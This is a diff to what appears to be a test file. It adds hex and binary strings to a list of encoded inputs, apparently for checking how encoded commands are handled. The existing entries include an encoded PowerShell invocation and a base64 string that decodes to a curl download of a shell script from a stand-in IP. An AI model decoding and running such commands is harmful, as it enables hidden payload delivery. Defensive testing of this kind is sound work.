@@ -85,6 +85,8 @@ ENCODED = "powershell.exe -NoP -enc YwBhAGwAYwAuAGUAeABlAA=="
         "Decode: H4sIAAAAAAAAAw==",
         "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g=",
         "What does Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g= mean?",
+        "what's this: 68 65 6c 6c 6f 20 77 6f 72 6c 64",
+        "01101000 01100101 01101100 01101100 01101111",
         "What is this: Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g=",
     ],
 )
